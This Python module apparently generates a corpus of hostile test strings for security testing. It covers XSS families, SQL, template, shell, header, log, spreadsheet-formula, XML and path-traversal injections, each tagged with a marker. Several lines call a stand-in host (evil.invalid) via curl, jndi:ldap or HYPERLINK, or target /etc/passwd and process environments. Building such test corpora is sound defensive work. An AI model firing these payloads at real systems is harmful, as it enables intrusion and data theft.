"""Hostile texts, made from families: what runs in a browser, and what runs anywhere else. Each carries MARK.

Source: OWASP XSS Filter Evasion and Web Security Testing Guide (families, not their texts); CWE-79, 89, 22, 93, 117,
1236, 1336; Unicode Technical Report 36
"""

from __future__ import annotations

import itertools
from collections.abc import Iterator

MARK = "zqx7"
# Sum of a template that was evaluated: 7331 * 7 and the mark beside it.
EVALUATED = f"51317{MARK}"
CALL = f"alert('{MARK}')"


def cross_site() -> dict[str, list[str]]:
    """Family -> texts that a browser would run where they are not escaped."""
    return {name: list(make()) for name, make in _CROSS_SITE.items()}


def injections() -> dict[str, list[str]]:
    """Family -> texts that a database, a shell, a template, a spreadsheet, a log would take for its own."""
    return {name: list(make()) for name, make in _INJECTIONS.items()}


def _tags() -> Iterator[str]:
    yield from (
        f"<script>{CALL}</script>",
        f"<SCRIPT SRC=//evil.invalid/{MARK}.js>",
        f"<scr<script>ipt>{CALL}</script>",
    )
    for tag in ("iframe", "embed", "object", "frame", "base", "link", "portal", "applet", "bgsound", "image"):
        name = {"object": "data", "base": "href", "link": "rel=import href"}.get(tag, "src")
        yield f"<{tag} {name}=//evil.invalid/{MARK}>"
    yield f"<meta http-equiv=refresh content='0;url=//evil.invalid/{MARK}'>"
    yield f"<iframe srcdoc='<script>{MARK}</script>'>"
    yield f"<form action=//evil.invalid/{MARK}><button>x</button>"
    yield f"<button formaction=javascript:{MARK}>x"
    yield f"<isindex type=image src=1 onerror={MARK}>"
    yield f"<template><script>{MARK}</script></template>"
    yield f"<dialog open onclose={MARK}>x</dialog>"
    yield f"<textarea autofocus onfocus={MARK}>"


def _events() -> Iterator[str]:
    pairs = (
        *(("img src=x", "onerror"), ("svg", "onload"), ("body", "onload"), ("input autofocus", "onfocus")),
        *(("details open", "ontoggle"), ("video src=x", "onerror"), ("audio src=x", "onerror"), ("marquee", "onstart")),
        *(("select autofocus", "onfocus"), ("a href=#", "onmouseover"), ("div", "onpointerenter"), ("p", "onclick")),
        *(("style", "onload"), ("body", "onhashchange"), ("body", "onpageshow"), ("body", "onresize")),
        *(("div style=animation-name:x", "onanimationstart"), ("div tabindex=1", "onfocusin"), ("object", "onerror")),
        *(("svg><animate attributeName=x", "onbegin"), ("svg><set attributeName=x", "onend"), ("video", "oncanplay")),
    )
    for (tag, event), space in itertools.product(pairs, (" ", "/", "\t")):
        yield f"<{tag}{space}{event}={MARK}>"


def _schemes() -> Iterator[str]:
    for number in (*range(1, 9), 11, 12, *range(14, 33)):
        yield f'<a href="{chr(number)}javascript:{MARK}">x</a>'
    for inside in ("\t", "\n", "\r", "&Tab;", "&NewLine;", "&#x09;", "&#0000010", "&colon;", "\u00ad", "\u2028"):
        yield f'<a href="java{inside}script:{MARK}">x</a>'
    for scheme in (
        *("JaVaScRiPt:", "javascript&#58;", "javascript&colon;", "vbscript:", "livescript:", "data:text/html,<script>"),
        *("data:text/html;base64,PHNjcmlwdD4=", "data:image/svg+xml,<svg onload=x>", "data:,", "feed:javascript:"),
        *("view-source:javascript:", "blob:null/", "filesystem:javascript:", "jar:javascript:", "mhtml:"),
    ):
        yield f"<a href='{scheme}{MARK}'>x</a>"
        yield f"{scheme}{MARK}"


def _svg() -> Iterator[str]:
    for inner in (
        f"<script>{MARK}</script>",
        f"<script href=data:,{MARK} />",
        f"<a xlink:href=javascript:{MARK}><text>x",
        f"<animate attributeName=href values=javascript:{MARK} />",
        f"<set attributeName=href to=javascript:{MARK} />",
        f"<use href='data:image/svg+xml,{MARK}#x' />",
        f"<foreignObject><iframe src=javascript:{MARK}>",
        f"<image href=x onerror={MARK} />",
        f"<style>*{{background:url(javascript:{MARK})}}</style>",
        f"<handler xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>{MARK}</handler>",
    ):
        yield f"<svg>{inner}</svg>"
        yield f"<svg xmlns='http://www.w3.org/2000/svg'>{inner}</svg>"
    for inner in (f"<maction actiontype=statusline xlink:href=javascript:{MARK}>x", f"<mi href=javascript:{MARK}>x"):
        yield f"<math>{inner}</math>"


def _mutations() -> Iterator[str]:
    image = f"<img src=x onerror={MARK}>"
    yield from (
        f'<noscript><p title="</noscript>{image}">',
        f"<math><mtext><table><mglyph><style><!--</style>{image}",
        f'<svg></p><style><a id="</style>{image}">',
        f"<form><math><mtext></form><form><mglyph><style></math>{image}",
        f"<listing>&lt;{image[1:]}</listing>",
        f"<xmp><p title='</xmp>{image}'>",
        f"<!--><{image[1:]}-->",
        f"<![CDATA[>{image}]]>",
        f"<title><a title='</title>{image}'>",
        f"<select><style></select>{image}</style>",
        f"<table><td background=javascript:{MARK}>",
        f"<div id='x`{image}`'>",
        f"<a title='`onmouseover={MARK}`'>",
        f"<p/onclick={MARK}//",
        f"<img src='x' a='>' onerror={MARK}>",
        f"<option><style></option></select>{image}</style>",
        f"</div></body></html>{image}",
        f"<plaintext>{image}",
    )


def _breakouts() -> Iterator[str]:
    endings = (
        f"<img src=x onerror={MARK}>",
        f" onmouseover={MARK} x=",
        f" autofocus onfocus={MARK} ",
        f"><svg onload={MARK}>",
    )
    quotes = ('"', "'", "`", "", '">', "'>", "-->", "*/", "]]>", "</textarea>")
    yield from (f"{quote}{ending}" for quote, ending in itertools.product(quotes, endings))
    yield from (f"';{CALL}//", f'";{CALL}//', f"\\';{CALL}//", f"</script><script>{CALL}</script>", f"${{{CALL}}}")
    yield from (f"-{CALL}-", f"`+{CALL}+`", f"\u2028{CALL}//", f"{{{{constructor.constructor('{MARK}')()}}}}")


def _encodings() -> Iterator[str]:
    plain = f"<script>{MARK}</script>"
    yield "+ADw-script+AD4-" + MARK + "+ADw-/script+AD4-"
    yield "".join(f"&#{ord(each)};" for each in "<script>") + MARK
    yield "".join(f"&#x{ord(each):x};" for each in "<script>") + MARK
    yield "".join(f"&#{ord(each):07}" for each in "<script>") + MARK
    yield plain.replace("<", "%3C").replace(">", "%3E")
    yield plain.replace("<", "%253C").replace(">", "%253E")
    yield plain.replace("<", "\\u003c").replace(">", "\\u003e")
    yield plain.replace("<", "\\x3c").replace(">", "\\x3e")
    yield plain.replace("<", "＜").replace(">", "＞")
    yield plain.replace("<", "\u2039").replace(">", "\u203a")
    yield plain.replace("<", "%c0%bc").replace(">", "%c0%be")
    yield plain.replace("s", "ſ")
    yield plain.replace("script", "scr\u0000ipt")
    yield plain.replace("script", "scr\u00adipt")
    yield f"&lt;script&gt;{MARK}&lt;/script&gt;"
    yield f"<ſcript>{MARK}</ſcript>"
    yield f"\ufeff<img src=x onerror={MARK}>"
    yield f"\u202e<img src=x onerror={MARK}>"


def _css() -> Iterator[str]:
    for rule in (
        f"width:expression({MARK})",
        f"-moz-binding:url(//evil.invalid/{MARK})",
        f"background:url(javascript:{MARK})",
        f"behavior:url(#default#{MARK})",
        f"background-image:url(//evil.invalid/{MARK})",
        f"@import '//evil.invalid/{MARK}'",
        f"width:exp/**/ression({MARK})",
        f"content:url(data:image/svg+xml,{MARK})",
    ):
        yield f"<div style='{rule}'>x</div>"
        yield f"<style>*{{{rule}}}</style>"
        yield f'";{rule};"'


_CROSS_SITE = {
    "tags": _tags,
    "events": _events,
    "schemes": _schemes,
    "svg": _svg,
    "mutations": _mutations,
    "breakouts": _breakouts,
    "encodings": _encodings,
    "css": _css,
}


def _sql() -> Iterator[str]:
    asks = (
        *("OR 1=1", "AND 1=2", "OR 'a'='a'", "UNION SELECT NULL,NULL", "; DROP TABLE cases", "; DELETE FROM inbox"),
        *("AND (SELECT 1 FROM pg_sleep(0))=1", "; ATTACH DATABASE '/tmp/x' AS x", "ORDER BY 99", "; VACUUM INTO 'x'"),
    )
    for quote, ask, end in itertools.product(("'", '"', ")", "')"), asks, (" --", "/*")):
        yield f"{MARK}{quote} {ask}{end}"
    yield from (
        f"{MARK}\\",
        f"{MARK}%' ESCAPE '!",
        f"{MARK}\x00' OR 1",
        f"1; COPY {MARK} TO PROGRAM 'id'",
        f"$${MARK}$$",
    )


def _templates() -> Iterator[str]:
    for opened, closed in (
        ("{{", "}}"),
        ("${", "}"),
        ("#{", "}"),
        ("<%=", "%>"),
        ("{%print", "%}"),
        ("@(", ")"),
        ("*{", "}"),
    ):
        yield f"{opened}7331*7{closed}{MARK}"
        yield f"{opened}self.__init__.__globals__{closed}{MARK}"
        yield f"{opened}config.items(){closed}{MARK}"
    yield f"{{% for x in ().__class__.__base__.__subclasses__() %}}{{{{x}}}}{{% endfor %}}{MARK}"
    yield from (
        f"%(7331*7)s{MARK}",
        f"%n%n%s%x{MARK}",
        f"{{0.__class__}}{MARK}",
        f"{{parts.seals}}{MARK}",
        f"%{{7331*7}}{MARK}",
    )
    yield from (
        f"${{jndi:ldap://evil.invalid/{MARK}}}",
        f"${{${{lower:j}}ndi:rmi://evil.invalid/{MARK}}}",
        f"$ne{MARK}",
    )


def _paths() -> Iterator[str]:
    ups = ("../", "..\\", "..%2f", "%2e%2e/", "..%252f", "....//", "..;/", "%c0%ae%c0%ae/", "..%00/")
    targets = ("etc/passwd", "proc/self/environ", "keys/sealing.json", "windows/win.ini")
    for up, target in itertools.product(ups, targets):
        yield f"{up * 8}{target}#{MARK}"
    yield from (
        f"/etc/passwd#{MARK}",
        f"file:///etc/passwd#{MARK}",
        f"C:\\{MARK}",
        f"\\\\evil.invalid\\{MARK}",
        f"~/{MARK}",
    )
    yield from (f"{MARK}/.", f"{MARK}/../..", f"CON.{MARK}", f"{MARK}\x00.json", f"{MARK}|id", f"php://filter/{MARK}")


def _headers() -> Iterator[str]:
    for end in ("\r\n", "\n", "\r", "%0d%0a", "%0a", "\u2028", "\u0085", "\x0b", "\x0c", "嘊嘍", "\\r\\n"):
        yield f"x{end}X-Injected: {MARK}"
        yield f"x{end}Set-Cookie: {MARK}=1"
        yield f"x{end}{end}<html>{MARK}</html>"


def _logs() -> Iterator[str]:
    for end in ("\n", "\r", "\r\n", "\u2028", "\u2029", "\u0085", "\x0b", "\x1e", "\x00"):
        yield f"x{end}2026-01-01 00:00:00,000 INFO login ok {MARK}"
    for code in ("\x1b[2J", "\x1b]0;", "\x1b[31m", "\x9b31m", "\x07", "\x08" * 20, "\x1bP"):
        yield f"{code}{MARK}"


def _formulas() -> Iterator[str]:
    starts = (
        "=",
        "+",
        "-",
        "@",
        "\t=",
        "\r=",
        "\n=",
        " =",
        "＝",
        "＋",
        "－",
        "＠",
        "\u200b=",
        "\u00a0=",
        "\ufeff=",
        "\x0b+",
    )
    for start, formula in itertools.product(
        starts, (f"cmd|' /C {MARK}'!A0", f'HYPERLINK("//evil.invalid/{MARK}","x")')
    ):
        yield f"{start}{formula}"
    yield from (
        f"=1+1;{MARK}",
        f'"=1+1,{MARK}',
        f"'=1+1{MARK}",
        f";=1+1{MARK}",
        f"-2+3+cmd|{MARK}",
        f"=IMPORTXML({MARK})",
    )


def _shells() -> Iterator[str]:
    for opened, closed in (
        (";", ""),
        ("|", ""),
        ("||", ""),
        ("&", ""),
        ("&&", ""),
        ("`", "`"),
        ("$(", ")"),
        ("\n", "\n"),
    ):
        for command in (f"touch pwned-{MARK}", f"curl evil.invalid/{MARK}", f"id #{MARK}"):
            yield f"x{opened}{command}{closed}"
    yield from (f"--{MARK}", f"-o{MARK}", f"() {{ :;}}; touch pwned-{MARK}", f"%SYSTEMROOT%{MARK}", f"$IFS$9{MARK}")


def _directories() -> Iterator[str]:
    yield from (f"*)(uid=*))(|(uid={MARK}", f"*)(&{MARK}", f"admin)(!(&({MARK}", f"\\2a\\28{MARK}", f"*{MARK}*")
    yield from (f"' or '1'='1{MARK}", f"'] | //*[{MARK}", f"count(/*){MARK}", f"x' or name()='{MARK}")


def _documents() -> Iterator[str]:
    yield from (
        f'{{"$gt": "{MARK}"}}',
        f'{{"$where": "sleep(1)//{MARK}"}}',
        f"[$ne]={MARK}",
        f"'; return true; var x='{MARK}",
    )
    yield from (
        f"!!python/object/apply:os.system ['touch pwned-{MARK}']",
        f"&a [*a, {MARK}]",
        f"!!binary {MARK}",
        f"--- {MARK}",
    )
    yield from (
        f"<!DOCTYPE x [<!ENTITY {MARK} SYSTEM 'file:///etc/passwd'>]>",
        f"<!ENTITY % x SYSTEM '//evil.invalid/{MARK}'>",
    )
    yield from (f"<xi:include href='file:///etc/passwd#{MARK}'/>", f"<?xml-stylesheet href='//evil.invalid/{MARK}'?>")
    yield from (
        f"__proto__.{MARK}",
        f"constructor.prototype.{MARK}",
        f"__class__.__mro__.{MARK}",
        f"cos\nsystem\n(S'{MARK}'\ntR.",
    )
    yield from (
        f"(a+)+${MARK}",
        "a" * 5000 + f"!{MARK}",
        "(" * 500 + MARK,
        f"Patient.name.where({MARK}",
        f"%resource.{MARK}",
    )


def _characters() -> Iterator[str]:
    for number in (
        0x200B,
        0x200E,
        0x202A,
        0x202E,
        0x2066,
        0x2069,
        0xFEFF,
        0x00AD,
        0x0301,
        0xE0041,
        0xFFFE,
        0x10FFFF,
        0xFFFD,
    ):
        yield f"{chr(number)}{MARK}{chr(number)}"
    yield from (
        f"раураl{MARK}",
        f"ⓏⓆⓍ{MARK}",
        "é̀́" * 50 + MARK,
        f"İı{MARK}",
        f"ﬃ{MARK}",
        f"\U0001f468\u200d\U0001f469{MARK}",
    )
    yield from (
        f"null{MARK}",
        f"NaN{MARK}",
        f"1e309{MARK}",
        f"0x1F{MARK}",
        f"true{MARK}",
        f"None{MARK}",
        f"undefined{MARK}",
    )


_INJECTIONS = {
    "sql": _sql,
    "templates": _templates,
    "paths": _paths,
    "headers": _headers,
    "logs": _logs,
    "formulas": _formulas,
    "shells": _shells,
    "directories": _directories,
    "documents": _documents,
    "characters": _characters,
}
